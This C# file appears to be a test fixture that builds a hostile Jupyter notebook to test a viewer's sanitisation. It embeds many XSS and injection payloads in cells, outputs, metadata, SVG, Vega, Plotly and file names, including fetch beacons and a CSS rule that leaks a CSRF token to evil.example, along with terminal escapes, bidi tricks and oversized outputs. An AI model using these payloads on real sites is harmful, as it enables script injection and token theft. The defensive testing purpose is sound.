using System.Text.Json.Nodes;

namespace Squero.Journeys;

/// <summary>A notebook that tries, in every place a notebook has, to act in the reader's browser or to call another host.</summary>
internal static class HostileNotebook
{
    /// <summary>What a payload does when it runs: it leaves a mark, speaks, asks and calls.</summary>
    private const string Act = "globalThis.owned=1;top.owned=1;console.log('OWNED');alert('OWNED');fetch('https://evil.example/owned')";
    private const string Evil = "https://evil.example";

    private static readonly string[] Payloads =
    [
        $"<script>{Act}</script>",
        $"<ScRiPt src={Evil}/x.js></sCrIpT><scr<script>ipt>{Act}</script>",
        $"<svg onload=\"{Act}\"><script>{Act}</script><use xlink:href=\"{Evil}/a.svg#x\"></use><image href=\"{Evil}/i.png\"/></svg>",
        $"<svg><foreignObject><iframe src=\"javascript:{Act}\"></iframe><body onload=\"{Act}\"></foreignObject><animate onbegin=\"{Act}\" attributeName=x dur=1s></svg>",
        $"<math><mtext><table><mglyph><style><img src=x onerror=\"{Act}\">",
        $"<img src=x onerror=\"{Act}\"><img srcset=\"{Evil}/s.png 1x\"><img src=\"{Evil}/pixel.gif\"><picture><source srcset=\"{Evil}/p.png\"><img></picture>",
        $"<video src=\"{Evil}/v.mp4\" poster=\"{Evil}/v.png\" autoplay onerror=\"{Act}\"></video><audio src=\"{Evil}/a.mp3\" autoplay></audio>",
        $"<iframe srcdoc=\"<script>{Act}</script>\"></iframe><iframe src=\"{Evil}/\"></iframe><object data=\"{Evil}/o\"></object><embed src=\"{Evil}/e\">",
        $"<a href=\"javascript:{Act}\">x</a><a href=\"data:text/html,<script>{Act}</script>\">y</a><a href=\"{Evil}/ping\" ping=\"{Evil}/p\">z</a>",
        "<a id=nb name=cookie>x</a><form id=body name=documentElement><input name=firstChild><input name=action></form><img name=querySelector id=getElementById>",
        $"<form action=\"{Evil}/f\" id=stolen><input name=text value=secret autofocus onfocus=\"{Act}\"><button formaction=\"javascript:{Act}\">Merge</button></form>",
        $"<style>@import '{Evil}/x.css'; @font-face{{font-family:x;src:url({Evil}/f.woff)}} body{{background:url({Evil}/bg.png)}} input[name=\"__RequestVerificationToken\"][value^=a]{{background:url({Evil}/a)}} *{{font-family:x}}</style>",
        $"<table style=\"background:url({Evil}/t.png);position:fixed;inset:0\" background=\"{Evil}/t2.png\"><tr><td onclick=\"{Act}\" onmouseover=\"{Act}\" id=strip>1</td></tr></table>",
        $"<base href=\"{Evil}/\"><meta http-equiv=refresh content=\"0;url={Evil}/m\"><link rel=stylesheet href=\"{Evil}/l.css\"><link rel=dns-prefetch href=\"//evil.example\"><link rel=preload as=script href=\"{Evil}/pre.js\">",
        $"</div></div></section></details></main></body><script>{Act}</script><plaintext>",
        $"<template><script>{Act}</script></template><noscript><p title=\"</noscript><img src=x onerror='{Act}'>\"></noscript><xmp><script>{Act}</script></xmp>",
        $"<textarea><img title=\"</textarea><img src=x onerror='{Act}'>\"></textarea><!--><img src=x onerror=\"{Act}\">-->",
        $"<div data-comment-source=\"{Evil}/c?\" data-later><a href=\"{Evil}/later\">more</a></div><p data-origin data-refresh=\"{Evil}/r\" data-live data-chart=\"{Evil}/chart\" data-math=block data-tex=\"\\\\href{{javascript:{Act}}}{{x}}\">p</p>",
        $"[x](javascript:{Act}) [y](JaVaScRiPt:{Act}) [z](data:text/html;base64,PHN2Zz4=) [w](java\tscript:{Act}) ![p]({Evil}/pixel.gif) ![q](//evil.example/q.gif) ![a](attachment:evil.svg)",
        $"$\\href{{javascript:{Act}}}{{x}}$ $$\\includegraphics{{{Evil}/k.png}} \\htmlData{{anchor=x}}{{y}} \\url{{javascript:{Act}}} \\html@mathml{{<script>{Act}</script>}}{{}}$$ $\\def\\a{{\\a\\a}}\\a$",
        $"\u001b[31m<img src=x onerror=\"{Act}\">\u001b[0m\u001b]8;;javascript:{Act}\u0007link\u001b]8;;\u0007\u001b]0;title\u0007\u001b[2J\u001b[9999;9999H\u001b[38;5;999mx",
        $"'\"`><img src=x onerror=\"{Act}\">{{{{constructor.constructor('{Act}')()}}}}${{{Act}}}",
        "\u202E\u2066safe\u2069 if admin: # \u200B\uFEFF",
    ];

    /// <summary>Names of files that try the same.</summary>
    public static readonly string[] Paths = ["x\"><img src=x onerror=alert(1)>.ipynb", "javascript:alert(1).ipynb", "reports/<script>alert(1)<!script>.ipynb"];

    public static string Plain { get; } = Text([Cell("markdown", "begin", "# Words"), Cell("code", "c0", "x = 1", Stream("1"))], "python");

    public static string Hostile { get; } = Make();

    private static string Make()
    {
        var cells = new List<JsonObject> { Cell("markdown", "begin", "# Words") };
        for (var i = 0; i < Payloads.Length; i++)
        {
            var payload = Payloads[i];
            var prose = Cell("markdown", $"m{i}", payload + "\n\n> " + payload + "\n\n| a |\n|---|\n| " + payload + " |\n\n    " + payload + "\n\n```html\n" + payload + "\n```");
            prose["attachments"] = new JsonObject { ["evil.svg"] = new JsonObject { ["image/svg+xml"] = Svg() }, [payload] = new JsonObject { ["image/png"] = payload } };
            cells.Add(prose);
            var code = Cell(
                "code", $"c{i}", payload, Stream(payload), Stream(payload, "stderr"), Error(payload),
                Display("text/html", payload), Display("text/html", $"<table><tr><td>{payload}"), Display("text/markdown", payload), Display("text/latex", payload), Display("application/json", payload),
                Display("application/javascript", Act), Display(payload, payload), Display("image/png", payload));
            code["metadata"] = new JsonObject { [payload] = payload, ["tags"] = new JsonArray(payload) };
            cells.Add(code);
        }

        cells.Add(Cell("code", "svg", "svg", Display("image/svg+xml", Svg())));
        cells.Add(Cell("code", "vega", "chart", Chart("application/vnd.vegalite.v5+json", VegaLite()), Chart("application/vnd.vega.v5+json", Vega())));
        cells.Add(Cell("code", "plotly", "figure", Chart("application/vnd.plotly.v1+json", Plotly())));
        cells.Add(Cell("code", "widget", "widget", Chart("application/vnd.jupyter.widget-view+json", new JsonObject { ["model_id"] = "w", ["version_major"] = 2 })));
        cells.Add(Cell("code", "huge", "huge", Display("text/html", "<table>" + string.Concat(Enumerable.Range(0, 20_000).Select(row => $"<tr><td>{row}<td>{row}<td>{row}")))));
        cells.Add(Cell("code", "lines", "lines", Stream(string.Concat(Enumerable.Repeat("line\n", 60_000)))));
        return Text(cells, "python");
    }

    private static string Text(List<JsonObject> cells, string language) => new JsonObject
    {
        ["cells"] = new JsonArray([.. cells]),
        ["metadata"] = new JsonObject
        {
            ["kernelspec"] = new JsonObject { ["name"] = Payloads[0], ["display_name"] = Payloads[0], ["language"] = Payloads[0] },
            ["language_info"] = new JsonObject { ["name"] = language },
            ["title"] = Payloads[0],
            ["widgets"] = new JsonObject
            {
                ["application/vnd.jupyter.widget-state+json"] = new JsonObject
                {
                    ["state"] = new JsonObject
                    {
                        ["w"] = new JsonObject { ["model_name"] = Payloads[0], ["state"] = new JsonObject { ["value"] = Payloads[5], ["description"] = Payloads[2], ["children"] = new JsonArray("IPY_MODEL_w") } },
                    },
                },
            },
        },
        ["nbformat"] = 4,
        ["nbformat_minor"] = 5,
    }.ToJsonString();

    private static string Svg() =>
        $"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" onload=\"{Act}\" width=\"90\" height=\"90\"><script>{Act}</script><style>@import '{Evil}/s.css';</style><use xlink:href=\"{Evil}/a.svg#x\"/><image xlink:href=\"{Evil}/i.png\" width=\"9\" height=\"9\"/><foreignObject width=\"90\" height=\"90\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>{Act}</script><iframe src=\"{Evil}/\"/></body></foreignObject><a xlink:href=\"javascript:{Act}\"><rect width=\"50\" height=\"50\"/></a></svg>";

    private static JsonObject VegaLite() => new()
    {
        ["$schema"] = "https://vega.github.io/schema/vega-lite/v5.json",
        ["data"] = new JsonObject { ["url"] = Evil + "/rows.json" },
        ["params"] = new JsonArray(new JsonObject { ["name"] = "p", ["expr"] = $"(function(){{{Act}}})()" }),
        ["mark"] = new JsonObject { ["type"] = "image", ["href"] = $"javascript:{Act}" },
        ["encoding"] = new JsonObject { ["url"] = new JsonObject { ["value"] = Evil + "/i.png" }, ["href"] = new JsonObject { ["value"] = $"javascript:{Act}" } },
        ["usermeta"] = new JsonObject { ["embedOptions"] = new JsonObject { ["loader"] = new JsonObject { ["baseURL"] = Evil } } },
    };

    private static JsonObject Vega() => JsonNode.Parse(
        $$"""
        {"$schema":"https://vega.github.io/schema/vega/v5.json","width":50,"height":50,
         "signals":[{"name":"s","init":"constructor.constructor('globalThis.owned=1')()"},{"name":"t","update":"{toString:event.view.eval}"}],
         "data":[{"name":"d","values":[{"x":1}]},{"name":"r","url":"{{Evil}}/vega.csv"},{"name":"m","url":"data:application/json,[1]"}],
         "marks":[{"type":"image","from":{"data":"d"},"encode":{"enter":{"url":{"value":"{{Evil}}/vega.png"},"href":{"value":"javascript:top.owned=1"} } } },
                  {"type":"text","encode":{"enter":{"text":{"value":"<img src=x onerror=top.owned=1>"},"font":{"value":"x;src:url({{Evil}}/f)"},"fill":{"value":"url({{Evil}}/fill.svg#x)"} } } }]}
        """)!.AsObject();

    private static JsonObject Plotly() => JsonNode.Parse(
        $$"""
        {"data":[{"type":"scatter","x":[1,2],"y":[3,4],"name":"<a href='javascript:top.owned=1'>n</a><img src=x onerror=top.owned=1>","hovertemplate":"<script>top.owned=1</script>"},
                 {"type":"choropleth","geojson":"{{Evil}}/geo.json","locations":["a"],"z":[1]},{"type":"image","source":"{{Evil}}/p.png"}],
         "layout":{"title":{"text":"<a href='{{Evil}}/t' target='_top'>t</a><style>@import '{{Evil}}/p.css'</style>"},"images":[{"source":"{{Evil}}/layout.png","xref":"paper","yref":"paper","sizex":1,"sizey":1}],
                   "mapbox":{"style":"{{Evil}}/style.json"},"template":{"layout":{"font":{"family":"x;background:url({{Evil}}/font)"} } } },
         "config":{"plotlyServerURL":"{{Evil}}","topojsonURL":"{{Evil}}/topo/","showSendToCloud":true} }
        """)!.AsObject();

    private static JsonObject Cell(string kind, string id, string source, params JsonObject[] outputs)
    {
        var cell = new JsonObject { ["cell_type"] = kind, ["id"] = id, ["metadata"] = new JsonObject(), ["source"] = source };
        if (kind == "code")
        {
            cell["execution_count"] = 1;
            cell["outputs"] = new JsonArray([.. outputs]);
        }

        return cell;
    }

    private static JsonObject Stream(string text, string name = "stdout") => new() { ["output_type"] = "stream", ["name"] = name, ["text"] = text };

    private static JsonObject Error(string text) => new() { ["output_type"] = "error", ["ename"] = text, ["evalue"] = text, ["traceback"] = new JsonArray(text, text) };

    private static JsonObject Display(string mime, string content) => new() { ["output_type"] = "display_data", ["metadata"] = new JsonObject(), ["data"] = new JsonObject { [mime] = content } };

    private static JsonObject Chart(string mime, JsonObject spec) => new() { ["output_type"] = "display_data", ["metadata"] = new JsonObject(), ["data"] = new JsonObject { [mime] = spec } };
}
